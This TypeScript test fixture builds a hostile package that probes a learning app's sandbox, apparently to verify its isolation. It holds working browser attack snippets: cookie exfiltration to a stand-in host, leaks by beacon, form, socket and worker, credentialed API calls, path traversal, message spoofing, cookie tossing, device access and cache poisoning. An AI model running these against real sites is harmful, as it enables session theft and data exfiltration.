import type { TestPackage } from './package-kit';

/*
 * A package that tries to get at everything that is not its own. Each attempt says `nothing`, or what it got; what goes out
 * to the network is also heard by the server at `elsewhere`.
 */

/** Name → body of an async function; what it returns it got, what throws or is undefined got nothing. */
const TRIES: Readonly<Record<string, string>> = {
  'the DOM of the app': 'return top.document.title',
  'the address of the app': 'return top.location.href',
  'another address for the app': `try { top.location = elsewhere + '/top' } catch {} await wait(300); return undefined`,
  'another address for the player': `try { parent.location = elsewhere + '/parent?' + encodeURIComponent(document.cookie) } catch {} await wait(300); return undefined`,
  'another address for itself': `const frame = document.createElement('iframe'); frame.src = elsewhere + '/self'; document.body.append(frame); await wait(300); try { return frame.contentWindow.document ? undefined : 'there' } catch { return undefined }`,
  'the hub’s interface': `const answer = await fetch(app + '/api/hub', { credentials: 'include' }); return await answer.text()`,
  'the hub’s interface, blindly': `await fetch(app + '/api/session', { method: 'DELETE', mode: 'no-cors', credentials: 'include' }); return 'sent'`,
  'the dossier': `const answer = await fetch(app + '/db/', { credentials: 'include' }); return answer.status`,
  'the files of another kit': `const answer = await fetch(app + '/kit-files/introduction/1.0.0/pages/welcome.html'); return await answer.text()`,
  'the files of another kit, by its own worker': `for (const path of ['../old/imsmanifest.xml', '../../../pages/welcome.html', '..%2fold%2fimsmanifest.xml', '/play/x/index.html', '/kit-files/introduction/1.0.0/kit.json', 'kit.json']) { const answer = await fetch(path); if (answer.ok) return path } return undefined`,
  'the files of another kit, by the app’s own messages': `const { port1, port2 } = new MessageChannel(); const answer = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1000) }); top.postMessage({ type: 'file', path: '../old/imsmanifest.xml' }, '*', [port2]); return (await answer) ?? undefined`,
  'the same in the name of the player': `const { port1, port2 } = new MessageChannel(); const answer = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); setTimeout(resolve, 1000) }); parent.eval ? parent.setTimeout(() => parent.parent.postMessage({ type: 'file', path: '../old/imsmanifest.xml' }, '*', [port2])) : 0; return (await answer) ?? undefined`,
  'a page elsewhere by fetch': `return await (await fetch(elsewhere + '/fetch')).text()`,
  'a page elsewhere by fetch, blindly': `await fetch(elsewhere + '/no-cors', { mode: 'no-cors' }); return 'sent'`,
  'a page elsewhere by beacon': `navigator.sendBeacon(elsewhere + '/beacon', 'x'); await wait(200); return undefined`,
  'a page elsewhere by picture': `const image = new Image(); image.src = elsewhere + '/picture'; await wait(200); return image.naturalWidth || undefined`,
  'a page elsewhere by script': `const script = document.createElement('script'); script.src = elsewhere + '/script'; document.head.append(script); await wait(200); return undefined`,
  'a page elsewhere by style': `const style = document.createElement('style'); style.textContent = '@import url(' + elsewhere + '/style); body { background: url(' + elsewhere + '/background) }'; document.head.append(style); await wait(200); return undefined`,
  'a page elsewhere by form': `const form = document.createElement('form'); form.action = elsewhere + '/form'; form.method = 'post'; form.target = 'f'; const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame, form); form.submit(); await wait(300); return undefined`,
  'a page elsewhere by link': `const link = document.createElement('a'); link.href = elsewhere + '/link'; link.ping = elsewhere + '/ping'; link.target = '_blank'; document.body.append(link); link.click(); await wait(200); return undefined`,
  'a page elsewhere by hint': `for (const rel of ['prefetch', 'preload', 'modulepreload', 'dns-prefetch', 'preconnect', 'prerender']) { const link = document.createElement('link'); link.rel = rel; link.as = 'script'; link.href = elsewhere + '/' + rel; document.head.append(link) } await wait(300); return undefined`,
  'a socket': `return await new Promise((resolve) => { const socket = new WebSocket(elsewhere.replace('http', 'ws') + '/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => resolve(undefined) })`,
  'a stream of events': `return await new Promise((resolve) => { const events = new EventSource(elsewhere + '/events'); events.onopen = () => resolve('open'); events.onerror = () => resolve(undefined) })`,
  'a page elsewhere by worker': `const code = 'fetch("' + elsewhere + '/worker").then(() => postMessage("sent"), () => postMessage("no"))'; return await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob([code]))); worker.onmessage = ({ data }) => resolve(data === 'sent' ? data : undefined); worker.onerror = () => resolve(undefined); setTimeout(resolve, 2000) })`,
  'a page elsewhere by an empty frame': `const frame = document.createElement('iframe'); document.body.append(frame); return await (await frame.contentWindow.fetch(elsewhere + '/empty-frame')).text()`,
  'a page elsewhere by a frame of its own making': `const frame = document.createElement('iframe'); frame.srcdoc = '<img src="' + elsewhere + '/srcdoc">'; document.body.append(frame); await wait(300); return undefined`,
  'a window': `return window.open(elsewhere + '/window') ? 'open' : undefined`,
  'the camera': `const stream = await navigator.mediaDevices.getUserMedia({ video: true }); return stream.id`,
  'the microphone': `const stream = await navigator.mediaDevices.getUserMedia({ audio: true }); return stream.id`,
  'the place': `return await new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('here'), () => resolve(undefined)))`,
  'the clipboard': `return await navigator.clipboard.readText()`,
  'cookies of the app': `return document.cookie || undefined`,
  'the session of the app, by a cookie of the same name': `for (const path of ['/', '/api', '/db', '/learn']) document.cookie = 'sandyq=stolen; Path=' + path; return undefined`,
  'what the app keeps in localStorage': `return localStorage.getItem('canary') ?? undefined`,
  'databases of the app': `const all = await indexedDB.databases(); return all.length > 0 ? JSON.stringify(all) : undefined`,
  'caches of the app': `const all = await caches.keys(); return all.length > 0 ? all.join() : undefined`,
  'a service worker of its own': `await navigator.serviceWorker.register('worker-of-mine.js', { scope: '/' }); return 'registered'`,
};

export const ATTEMPTS: readonly string[] = Object.keys(TRIES);

export function hostilePackage(elsewhere: string): TestPackage {
  const tries = Object.entries(TRIES)
    .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
    .join(',\n');
  const script = `
const elsewhere = ${JSON.stringify(elsewhere)};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const app = location.ancestorOrigins[location.ancestorOrigins.length - 1];
const tries = { ${tries} };
(async () => {
  const left = [localStorage.getItem('mine'), sessionStorage.getItem('mine'), (await indexedDB.databases()).map(({ name }) => name).join(), (await caches.keys()).join(), document.cookie].filter(Boolean);
  document.getElementById('left').textContent = left.length === 0 ? 'nothing left' : left.join(' ');
  const said = {};
  for (const [name, go] of Object.entries(tries)) {
    const got = await Promise.race([go().catch(() => undefined), wait(4000)]).catch(() => undefined);
    said[name] = got === undefined ? 'nothing' : String(got).slice(0, 200);
  }
  document.getElementById('said').textContent = JSON.stringify(said);
  // What it leaves behind for the next one.
  try { localStorage.setItem('mine', '1'); sessionStorage.setItem('mine', '1'); document.cookie = 'mine=1; Path=/'; } catch {}
  await new Promise((resolve) => { const request = indexedDB.open('mine'); request.onsuccess = () => { request.result.close(); resolve() }; request.onerror = resolve });
  await caches.open('mine').then((cache) => cache.put('/stage', new Response('poison'))).catch(() => undefined);
  document.getElementById('done').textContent = 'done';
})();`;
  return {
    id: 'hostile',
    title: 'Hostile',
    files: {
      'index.html': `<!doctype html><title>Hostile</title><p id="done">trying</p><p id="left"></p><pre id="said"></pre>
<script>${script}</script>`,
      'worker-of-mine.js': 'self.addEventListener("fetch", () => undefined)',
    },
  };
}
